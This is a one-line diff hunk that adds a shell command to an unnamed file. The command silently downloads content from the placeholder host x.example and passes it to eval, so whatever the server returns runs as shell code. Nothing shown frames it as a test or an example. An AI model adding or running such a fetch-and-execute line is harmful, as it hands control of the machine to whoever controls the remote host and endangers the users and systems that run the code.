@@ -1,0 +1,1 @@
+eval `curl -s http://x.example/a`
